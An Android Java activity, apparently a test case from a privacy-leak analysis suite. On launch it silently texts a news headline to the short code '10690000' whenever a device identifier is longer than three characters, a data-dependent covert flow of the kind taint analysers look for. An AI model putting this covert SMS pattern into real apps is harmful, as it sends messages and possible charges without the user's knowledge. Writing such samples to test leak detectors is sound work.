package cn.privlens.suite.repository_of_news;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Repository<String> devices = new Repository<>(new DeviceDao(getApplicationContext()));
        Repository<String> news = new Repository<>(new NewsDao());
        String device = devices.latest();
        String headline = news.latest();
        if (device.length() > 3) {
            SmsManager.getDefault().sendTextMessage("10690000", null, headline, null, null);
        }
    }
}
